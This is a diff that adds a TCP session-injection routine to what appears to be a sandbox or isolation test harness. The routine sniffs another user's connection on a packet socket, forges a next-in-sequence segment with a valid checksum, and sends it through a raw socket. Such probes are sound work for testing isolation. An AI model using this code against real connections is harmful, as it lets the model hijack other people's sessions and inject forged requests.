@@ -473,6 +473,54 @@ def sniff(run):
     return "sniffed"
 
 
+def next_segment(packet, payload):
+    """IPv4 and TCP of whoever sent `packet`, which was all he said, with more."""
+    ihl = (packet[0] & 15) * 4
+    length, = struct.unpack("!H", packet[2:4])
+    tcp_head = packet[ihl:ihl + 20]
+    said = length - ihl - (tcp_head[12] >> 4) * 4
+    seq, = struct.unpack("!I", tcp_head[4:8])
+    body = (tcp_head[:4] + struct.pack("!I", (seq + said) & 0xffffffff)
+            + tcp_head[8:12] + struct.pack("!BBHHH", 5 << 4, 0x18, 512, 0, 0)
+            + payload)
+    ends = packet[12:20]
+    total = packets.checksum(ends + struct.pack("!BBH", 0, 6, len(body)) + body)
+    body = body[:16] + struct.pack("!H", total) + body[18:]
+    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, 6,
+                       0) + ends + body
+
+
+def inject(run):
+    """A request in the middle of the owner's connection, by a raw socket."""
+    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
+    ends = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        become(OWNER)
+        run.id += "-owner"
+        sock = tcp()
+        run.reach(sock, endpoint(run))
+        os.write(ends[1], struct.pack("!H", sock.getsockname()[1]))
+        run.told(lambda: run.answer(sock))  # to what he never asked
+        os._exit(0)
+    port = os.read(ends[0], 2)
+    last = b""
+    ear.setblocking(False)
+    try:
+        while True:  # all that he has said by now
+            packet = ear.recv(65536)
+            if packet[0] >> 4 == 4 and packet[9] == 6 and \
+                    packet[(packet[0] & 15) * 4:][:2] == port:
+                last = packet
+    except BlockingIOError:
+        pass
+    raw_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
+    raw_sock.sendto(next_segment(last, run.request()),
+                    (socket.inet_ntoa(last[16:20]), 0))
+    os.waitpid(pid, 0)
+    return "injected"
+
+
 # --- other ways to another destination ---------------------------------------------
 def instruction(op, dst=0, src=0, off=0, imm=0):
     return struct.pack("=BBhi", op, src << 4 | dst, off, imm)
